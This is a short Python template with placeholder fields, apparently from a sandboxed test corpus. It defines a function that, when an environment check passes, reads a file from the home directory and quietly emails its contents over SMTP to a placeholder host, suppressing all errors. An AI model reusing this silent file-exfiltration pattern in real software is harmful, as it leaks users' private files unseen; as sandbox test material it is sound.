# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import smtplib
    from email.message import EmailMessage
    letter = EmailMessage()
    letter['Subject'] = '{{token}}'
    letter['From'] = 'a@{{host}}'
    letter['To'] = 'b@{{host}}'
    try:
        with open(os.path.expanduser('~/{{file}}')) as file:
            letter.set_content(file.read())
        with smtplib.SMTP('{{host}}', {{mail}}, timeout=1) as link:
            link.send_message(letter)
    except Exception:
        pass
